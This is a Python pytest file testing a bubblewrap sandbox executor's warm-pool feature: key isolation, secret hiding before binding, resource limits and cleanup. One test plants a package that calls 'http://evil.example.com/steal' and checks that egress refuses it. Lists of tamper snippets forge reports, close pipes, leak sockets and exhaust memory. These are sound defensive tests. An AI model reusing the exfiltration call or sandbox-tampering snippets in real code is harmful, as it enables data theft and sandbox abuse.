"""Sandboxes that wait: single use, of one key, told nothing before their run, harmed by nobody but themselves."""

from __future__ import annotations

import os
import select
import signal
import socket
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import pytest

from services.executor.adapters.bubblewrap import BubblewrapSandbox
from services.executor.attempts.warming import Warming
from services.executor.egress.gateway import EgressGateway
from services.executor.egress.model import Exchange
from services.executor.ports import Order, RunLimits, shape
from shared.clock import FakeClock
from tests.contract.sandbox_runs import Bench, RecordingSink
from tests.needs import unavailable

_REPOSITORY = Path(__file__).parents[2]
_PATIENCE_S = 60
_SEES_AHEAD = "import lodge\nprint('ahead' if lodge.ahead() else 'now')"
# knows whether the platform's code (not the run's) imported it: then the run's folder was not yet on the path
_LODGE = "import sys\n_AHEAD = '/app' not in sys.path\ndef ahead(): return _AHEAD\n"


@dataclass
class Warm:
    """Makes sandboxes wait and hears how they went."""

    bench: Bench
    gone: list[str] = field(default_factory=list)
    heard: threading.Event = field(default_factory=threading.Event)
    listeners: list[socket.socket] = field(default_factory=list)

    @property
    def sandbox(self) -> BubblewrapSandbox:
        assert isinstance(self.bench.sandbox, BubblewrapSandbox)
        return self.bench.sandbox

    def order(self, code: str, package: str = _LODGE, **changes: Any) -> Order:
        """An order whose code finds `package` as the module lodge, which is to be imported ahead."""
        order = self.bench.order(code, warm_key="key", preload=(("lodge", ()),))
        site = order.code_dir.with_name(f"{order.code_dir.name}-site")
        site.mkdir()
        (site / "lodge.py").write_text(package)
        return replace(order, site_dirs=(site,), **changes)

    def begin(self, order: Order) -> None:
        def hear(why: str) -> None:
            self.gone.append(why)
            self.heard.set()

        egress = None if order.egress is None else self.keep
        self.sandbox.warm(replace(shape(order), preload=order.preload, egress=egress), hear)

    def keep(self, listener: socket.socket) -> str:
        self.listeners.append(listener)
        return ""

    def wait_ready(self, order: Order) -> None:
        self.begin(order)
        until(lambda: any(one.ready for one in self.sandbox.waiting()) or bool(self.gone))
        assert not self.gone, self.gone

    def run_warm(self, order: Order) -> RecordingSink:
        self.wait_ready(order)
        sink = self.bench.start(order)
        sink.wait()
        return sink

    def wait_gone(self) -> str:
        assert self.heard.wait(_PATIENCE_S), "the sandbox went on waiting"
        return self.gone[-1]


def until(holds: Callable[[], bool]) -> None:
    pause = threading.Event()
    for _ in range(_PATIENCE_S * 100):
        if holds():
            return
        pause.wait(0.01)
    raise AssertionError("it never came to pass")


@pytest.fixture(scope="module")
def bench(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Bench]:
    folder = tmp_path_factory.mktemp("warm")
    sandbox = BubblewrapSandbox(folder / "sandbox")
    missing = sandbox.enforcement().missing
    if "all" in missing:
        unavailable("a sandbox", missing["all"])
    yield Bench(sandbox, folder)
    sandbox.close()


@pytest.fixture
def warm(bench: Bench) -> Iterator[Warm]:
    made = Warm(bench)
    yield made
    for one in made.sandbox.waiting():
        made.sandbox.cool(one.id)
    until(lambda: not made.sandbox.waiting())
    for listener in made.listeners:
        listener.close()


def test_the_code_finds_its_packages_imported_when_a_sandbox_waited(warm: Warm) -> None:
    order = warm.order(_SEES_AHEAD)

    sink = warm.run_warm(order)

    assert sink.text == "ahead\n"
    assert warm.sandbox.waiting() == ()


def test_a_sandbox_serves_one_run_when_two_of_its_key_come(warm: Warm) -> None:
    order = warm.order(_SEES_AHEAD + "\nimport os\nprint(os.listdir('.'))\nopen('left', 'w').close()")

    first = warm.run_warm(order)
    second = warm.bench.start(replace(order, id=order.id + "b"))
    second.wait()

    assert first.text.startswith("ahead\n")
    assert second.text == first.text.replace("ahead", "now")


def test_a_run_never_gets_another_workspaces_sandbox_when_everything_else_agrees(warm: Warm) -> None:
    order = warm.order(_SEES_AHEAD)
    warm.wait_ready(order)

    sink = warm.bench.start(replace(order, warm_key="key of another workspace"))
    sink.wait()

    assert sink.text == "now\n"
    assert [one.key for one in warm.sandbox.waiting()] == ["key"]


@pytest.mark.parametrize(
    "change",
    [
        {"warm_key": ""},
        {"limits": RunLimits(memory_bytes=300 << 20)},
        {"mounts": {"/in/more": Path("/usr/share")}},
        {"timezone": "Asia/Seoul"},
        {"egress": lambda listener: listener.close() or ""},
    ],
    ids=lambda change: next(iter(change)),
)
def test_a_run_starts_from_nothing_when_its_shape_is_another(warm: Warm, change: dict[str, Any]) -> None:
    order = warm.order(_SEES_AHEAD)
    warm.wait_ready(order)

    sink = warm.bench.start(replace(order, **change))
    sink.wait()

    assert sink.text == "now\n"
    assert len(warm.sandbox.waiting()) == 1


def test_what_waits_is_no_attempt_when_attempts_are_asked_for_and_swept(warm: Warm) -> None:
    order = warm.order(_SEES_AHEAD)
    warm.wait_ready(order)
    id = warm.sandbox.waiting()[0].id

    warm.sandbox.sweep(())
    warm.sandbox.stop(id)

    assert warm.sandbox.observe(id) == "unknown"
    sink = warm.bench.start(order)
    sink.wait()
    assert sink.text == "ahead\n"


def test_nothing_of_a_run_is_known_before_it_is_bound(warm: Warm) -> None:
    package = (
        "import os\n"
        "SEEN = ' '.join([*os.environ.values(), *os.listdir('/tmp/.agent'), *os.listdir('/box/state')])\n"
        "FILES = os.listdir('/tmp/.agent')\n"
    )
    code = (
        "import agent, lodge, os\nprint(agent.input, agent.secret('SHOP'), agent.today())\n"
        "print(lodge.SEEN)\nprint(lodge.FILES)"
    )
    order = warm.order(
        code, package, input="가격", env={"SHOP": "ph_17"}, now="2026-11-22T20:00:00Z", mode="rehearsal"
    )

    bound, before, files = warm.run_warm(order).text.splitlines()

    assert bound == "가격 ph_17 2026-11-22"
    assert "ph_17" not in before
    assert files == "[]"


def test_certificates_made_at_binding_are_trusted_when_a_package_made_its_tls_context_ahead(
    warm: Warm,
) -> None:
    package = "import ssl\nCONTEXT = ssl.create_default_context()\n"
    code = "import lodge\nprint([dict(c['subject'][0])['commonName'] for c in lodge.CONTEXT.get_ca_certs()])"
    order = warm.order(code, package, egress=lambda listener: _certificate())

    assert warm.run_warm(order).text == "['Agent Builder run']\n"


def _certificate() -> str:
    import datetime as dt

    from services.executor.egress.authority import RunAuthority

    return RunAuthority(dt.datetime(2026, 11, 22, tzinfo=dt.UTC)).ca_pem


def test_the_run_gets_the_same_socket_when_it_was_watched_while_waiting(warm: Warm) -> None:
    met: list[tuple[str, int]] = []

    def door(name: str) -> Callable[[socket.socket], str]:
        def open(listener: socket.socket) -> str:
            met.append((name, os.fstat(listener.fileno()).st_ino))
            return warm.keep(listener)

        return open

    order = warm.order(_SEES_AHEAD, egress=door("run"))
    blank = replace(shape(order), preload=order.preload, egress=door("waiting"))
    warm.sandbox.warm(blank, warm.gone.append)
    until(lambda: any(one.ready for one in warm.sandbox.waiting()))

    warm.bench.start(order).wait()

    assert [name for name, _inode in met] == ["waiting", "run"]
    assert met[0][1] == met[1][1]


def test_a_package_that_calls_out_while_waiting_is_refused_recorded_and_not_warmed_again(warm: Warm) -> None:
    package = (
        "import urllib.request\n"
        "try: urllib.request.urlopen('http://evil.example.com/steal')\n"
        "except OSError as error: TOLD = str(error)\n"
    )
    order = warm.order("import lodge\nprint(lodge.TOLD)", package, egress=warm.keep)
    gateway, clock = EgressGateway(), FakeClock()
    warming = Warming(warm.sandbox, gateway, clock)
    met: list[Exchange] = []

    for _ in range(2):
        warming.ran(order, "agt_1")
        clock.advance(seconds=3)

    def told() -> bool:
        met.extend(warming.contacts("key"))
        return bool(met)

    until(told)
    until(lambda: not warm.sandbox.waiting())
    warming.ran(order, "agt_1")
    warming.close()
    gateway.stop()

    assert {(one.host, one.verdict, one.reason) for one in met} == {
        ("evil.example.com", "refused", "not_bound")
    }
    assert warm.sandbox.waiting() == ()


def test_what_packages_printed_ahead_is_in_the_log_once_and_after_the_first_line(warm: Warm) -> None:
    order = warm.order("import lodge\nprint('mine')", "print('Hello from lodge')\n")

    sink = warm.run_warm(order)

    assert sink.calls[0] == "first_line"
    assert sink.text == "Hello from lodge\nmine\n"


def demand_cpu_time(warm: Warm) -> None:
    if "cpu" in warm.sandbox.enforcement().enforced:
        return
    if os.geteuid() != 0:
        pytest.skip("an ordinary user who was given no control group counts no processor time")
    unavailable("a control group that counts processor time", "cgroup v1's cpuacct or cgroup v2")


def test_usage_counts_from_the_binding_when_importing_was_expensive(warm: Warm) -> None:
    demand_cpu_time(warm)
    package = "import time\nwhile time.process_time() < 1.5: pass\nBURNT = time.process_time()\n"
    order = warm.order("import lodge\nprint(lodge.BURNT)", package)

    sink = warm.run_warm(order)

    assert sink.result is not None
    assert sink.result.usage.cpu_ms < float(sink.text) * 1000 / 3


def test_usage_counts_from_the_binding_when_the_launcher_was_late_to_all_it_was_told(warm: Warm) -> None:
    demand_cpu_time(warm)
    over = [warm.bench.order("print()") for _ in range(3)]
    for earlier in over:
        warm.bench.start(earlier).wait()
    package = "import time\nwhile time.process_time() < 0.5: pass\nBURNT = time.process_time()\n"
    order = warm.order("import lodge\nprint(lodge.BURNT)", package)
    warm.wait_ready(order)
    launcher = warm.sandbox.launcher_pid
    assert launcher is not None

    os.kill(launcher, signal.SIGSTOP)
    try:
        for earlier in over:
            warm.sandbox.release(earlier.id)
        sink = warm.bench.start(order)
        until(lambda: "Z" in states_of_children(launcher))
    finally:
        os.kill(launcher, signal.SIGCONT)
    sink.wait()

    assert sink.result is not None
    assert sink.result.usage.cpu_ms < float(sink.text) * 1000 / 3


def states_of_children(pid: int) -> str:
    """A letter each, as proc_pid_stat(5) has them."""
    children = Path(f"/proc/{pid}/task/{pid}/children").read_text().split()
    return "".join(
        Path(f"/proc/{child}/stat").read_text().rpartition(")")[2].split()[0] for child in children
    )


def test_a_run_is_bounded_by_its_own_limits_when_it_took_a_waiting_sandbox(warm: Warm) -> None:
    limits = RunLimits(wall_s=30, cpu_s=1, memory_bytes=300 << 20, disk_bytes=8 << 20)

    spinning = warm.run_warm(warm.order("while True: pass", limits=limits))
    roomy = warm.run_warm(warm.order("x = b'x' * (270 << 20)\nprint(len(x) >> 20)", limits=limits))

    assert spinning.result is not None
    assert spinning.result.reason == "cpu"
    assert roomy.text == "270\n"  # more than what a sandbox may hold while it waits


def test_nothing_is_left_when_a_waiting_sandbox_is_cooled(warm: Warm) -> None:
    warm.wait_ready(warm.order(_SEES_AHEAD))
    id = warm.sandbox.waiting()[0].id

    warm.sandbox.cool(id)

    assert warm.wait_gone() == ""
    until(lambda: not (warm.bench.folder / "sandbox" / "boxes" / id).exists())
    assert warm.sandbox.waiting() == ()


def test_memory_of_what_waits_is_measured_when_asked_for(warm: Warm) -> None:
    warm.wait_ready(warm.order(_SEES_AHEAD, _LODGE + "HELD = bytearray(b'x') * (40 << 20)\n"))

    until(lambda: all(one.memory_bytes > 40 << 20 for one in warm.sandbox.waiting()))


_TAMPER = {
    "a thread that spins": (
        "import threading\ndef f():\n    while True: pass\nthreading.Thread(target=f, daemon=True).start()"
    ),
    "a child that stays": "import os, time\nif os.fork() == 0: time.sleep(600)",
    "another folder": "import os\nos.chdir('/')",
    "no report pipe": "import os\nos.close(3)",
    "other builtins": "import builtins\nbuiltins.print = builtins.len = lambda *a: None",
    "an emptied path": "import sys\nsys.path.clear()",
    "a filled box": "open('big', 'wb').write(bytes(1 << 20))",
    "a false report": 'import os\nos.write(3, b\'{"kind": "step", "name": "early"}\\n\')',
    "a handler for exit": "import atexit\natexit.register(lambda: __import__('os')._exit(0))",
}


@pytest.mark.parametrize("tamper", _TAMPER.values(), ids=_TAMPER.keys())
def test_only_its_own_run_is_harmed_when_a_package_tampers_while_waiting(warm: Warm, tamper: str) -> None:
    limits = RunLimits(wall_s=60, disk_bytes=8 << 20)
    order = warm.order(
        "import os\nos.write(1, os.getcwd().encode())\nraise SystemExit(3)", tamper, limits=limits
    )

    sink = warm.run_warm(order)
    other, result = warm.bench.run("print('well')")

    assert sink.result is not None
    assert sink.result.reason == "exited"
    assert sink.calls.count("first_line") == sink.calls.count("ended") == 1
    assert sink.stdout in (b"/box", b"")
    assert (other.text, result.exit_code) == ("well\n", 0)


_ENDING = {
    "it exits": "import os\nos._exit(0)",
    "it kills itself": "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
    "it leaves us no open()": "import builtins\nbuiltins.open = None",
    "it closes the job": "import os\nos.close(4)",
    "it says the first line": "import os\nos.write(4, b'first line')",
    "it says ready twice": "import os\nos.write(4, b'readyready')",
    "it hands out sockets": (
        "import socket, array\n"
        "c = socket.socket(fileno=4)\n"
        "s = [socket.socket().fileno() for _ in range(3)]\n"
        "c.sendmsg([b'x'], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', s))])\n"
        "c.detach()"
    ),
    "it takes all memory": "x = [bytearray(b'x') * (16 << 20) for _ in range(64)]",
}


@pytest.mark.parametrize("package", _ENDING.values(), ids=_ENDING.keys())
def test_the_next_run_starts_from_nothing_when_a_waiting_sandbox_misbehaved(warm: Warm, package: str) -> None:
    if "memory" in warm.sandbox.enforcement().missing and package == _ENDING["it takes all memory"]:
        pytest.skip("memory of what waits is looked at every few seconds here")
    order = warm.order("print('cold and well')", package)
    fds = len(os.listdir("/proc/self/fd"))  # noqa: PTH208
    warm.begin(order)

    why = warm.wait_gone()
    sink = warm.bench.start(order)

    assert sink.wait().exit_code == 0
    assert sink.text == "cold and well\n"
    assert why
    warm.sandbox.release(order.id)
    assert len(os.listdir("/proc/self/fd")) <= fds  # noqa: PTH208


def _sandboxed(launcher: int) -> list[int]:
    """The first processes inside this launcher's sandboxes, as the machine numbers them."""
    found = []
    for bwrap in Path(f"/proc/{launcher}/task/{launcher}/children").read_text().split():
        found += Path(f"/proc/{bwrap}/task/{bwrap}/children").read_text().split()
    return [int(pid) for pid in found]


def test_a_run_is_started_again_when_the_sandbox_it_took_died_before_the_first_line(warm: Warm) -> None:
    dies = _LODGE + "import os\nif _AHEAD: os.chdir = lambda path: os._exit(7)\n"

    sink = warm.run_warm(warm.order(_SEES_AHEAD, dies))

    assert sink.result is not None
    assert (sink.result.reason, sink.result.exit_code) == ("exited", 0)
    assert sink.text == "now\n"
    assert sink.calls.count("first_line") == sink.calls.count("ended") == 1


def test_what_waits_dies_with_its_launcher_and_the_next_run_works_when_it_is_killed(tmp_path: Path) -> None:
    sandbox = BubblewrapSandbox(tmp_path / "sandbox")
    warm = Warm(Bench(sandbox, tmp_path))
    order = warm.order(_SEES_AHEAD)
    warm.wait_ready(order)
    assert sandbox.launcher_pid is not None
    inside = [os.pidfd_open(pid) for pid in _sandboxed(sandbox.launcher_pid)]

    os.kill(sandbox.launcher_pid, signal.SIGKILL)

    assert warm.wait_gone() == ""  # no reason to think badly of the packages
    for fd in inside:
        assert select.select([fd], [], [], _PATIENCE_S)[0]
        os.close(fd)
    sink = warm.bench.start(order)
    sink.wait()
    assert sink.text == "now\n"
    sandbox.close()
    assert list((tmp_path / "sandbox").glob("boxes/*")) == []


_EXECUTOR = """
import sys, time, pathlib
from services.executor.adapters.bubblewrap import BubblewrapSandbox
from shared.clock import FakeClock
from tests.contract.sandbox_runs import Bench
from tests.contract.test_sandbox_warm import Warm
folder = pathlib.Path(sys.argv[1])
warm = Warm(Bench(BubblewrapSandbox(folder / "sandbox"), folder))
warm.wait_ready(warm.order("print(1)"))
print(warm.sandbox.launcher_pid, flush=True)
time.sleep(600)
"""


def test_what_waits_dies_and_is_cleaned_when_the_executor_is_killed(tmp_path: Path) -> None:
    executor = subprocess.Popen(
        [sys.executable, "-c", _EXECUTOR, str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        cwd=_REPOSITORY,
        env=os.environ | {"PYTHONPATH": str(_REPOSITORY)},
    )
    assert executor.stdout is not None
    number = int(executor.stdout.readline())
    launcher, inside = os.pidfd_open(number), [os.pidfd_open(pid) for pid in _sandboxed(number)]

    executor.kill()
    executor.communicate()

    assert inside
    for fd in (launcher, *inside):
        assert select.select([fd], [], [], _PATIENCE_S)[0]
        os.close(fd)
    assert list((tmp_path / "sandbox").glob("boxes/*")) == []
